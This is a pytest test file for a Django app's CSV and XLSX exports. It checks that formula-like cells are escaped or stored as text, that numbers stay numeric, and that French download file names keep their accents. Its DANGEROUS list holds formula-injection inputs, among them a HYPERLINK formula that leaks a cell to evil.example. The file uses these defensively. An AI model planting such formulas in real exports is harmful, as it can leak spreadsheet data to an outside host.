"""Exports never hand a spreadsheet a formula, keep text exactly as stored, and name their
files in a way every browser reads (issue 17 item 5, issue 21)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any
from urllib.parse import unquote

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from liaison.core.choices import Role
from liaison.core.exports import export_rows
from liaison.core.tests.pages import client_for, member
from tests import factories as f

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
DANGEROUS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
MARKUP = "a<b and c>d AT&amp;T <b>x</b>"


def _csv(response: Any) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _sheet(response: Any) -> Any:
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return sheet


def _export(fmt: str, columns: list[str] | None = None, **filters: Any) -> Any:
    client = client_for(member(Role.VIEWER))
    params: dict[str, Any] = {"export": fmt, "columns": columns or ["title", "external_id"]}
    return client.get(reverse("activities:activity_list"), {**params, **filters})


def test_csv_cells_that_a_spreadsheet_would_compute_are_text() -> None:
    for index, title in enumerate([*DANGEROUS, MARKUP, "Plain"]):
        f.activity(title=title, external_id=f"X-{index}")
    rows = _csv(_export("csv", sort="external_id"))
    titles = [row[0] for row in rows[1:]]
    assert titles == [*("'" + t for t in DANGEROUS), MARKUP, "Plain"]


def test_xlsx_cells_are_strings_never_formulas() -> None:
    for index, title in enumerate([*DANGEROUS, MARKUP]):
        f.activity(title=title, external_id=f"X-{index}")
    sheet = _sheet(_export("xlsx", sort="external_id"))
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [*DANGEROUS, MARKUP]
    assert {c.data_type for c in cells} == {"s"}


def test_many_to_many_cells_are_exported_as_stored() -> None:
    actor = f.organization(name_fr=MARKUP, name_en=MARKUP)
    event = f.context_event(title_fr="Contexte", title_en="Context")
    event.actors.add(actor)
    client = client_for(member(Role.VIEWER))
    url = reverse("events:contextevent_list")
    for fmt in ("csv", "xlsx"):
        response = client.get(url, {"export": fmt, "columns": ["title", "actors"]})
        if fmt == "csv":
            rows = _csv(response)
        else:
            rows = [list(r) for r in _sheet(response).iter_rows(values_only=True)]
        assert rows[1][1] == MARKUP, fmt


def test_numbers_stay_numbers_and_negative_numbers_are_not_formulas() -> None:
    rows: list[list[Any]] = [["a", "b", "c", "d"], [-5, Decimal("-1.50"), 2.5, "-5"]]
    text = b"".join(export_rows(iter(rows), "x", "csv").streaming_content).decode()  # type: ignore[attr-defined]
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1] == ["-5", "-1.50", "2.5", "'-5"]
    sheet = load_workbook(io.BytesIO(export_rows(iter(rows), "x", "xlsx").content)).active  # type: ignore[attr-defined]
    assert sheet is not None
    cells = next(iter(sheet.iter_rows(min_row=2)))
    assert [c.value for c in cells] == [-5, -1.5, 2.5, "-5"]
    assert [c.data_type for c in cells] == ["n", "n", "n", "s"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_french_file_names_keep_their_accents_and_extension(fmt: str) -> None:
    """ "actions de coopération" reached browsers as "actions de_" without its extension."""
    client = client_for(member(Role.VIEWER))
    client.cookies["django_language"] = "fr"
    response = client.get(
        reverse("activities:activity_list"), {"export": fmt}, headers={"accept-language": "fr"}
    )
    header = response["Content-Disposition"]
    assert header.isascii(), header
    disposition, *rest = (part.strip() for part in header.split(";"))
    assert disposition == "attachment"
    parts = dict(part.split("=", 1) for part in rest)
    fallback = parts["filename"]
    assert fallback.startswith('"actions de cooperation-')
    assert fallback.endswith(f'.{fmt}"')
    assert parts["filename*"].startswith("UTF-8''")
    name = unquote(parts["filename*"][len("UTF-8''") :], encoding="utf-8")
    assert name.startswith("actions de coopération-")
    assert name.endswith(f".{fmt}")
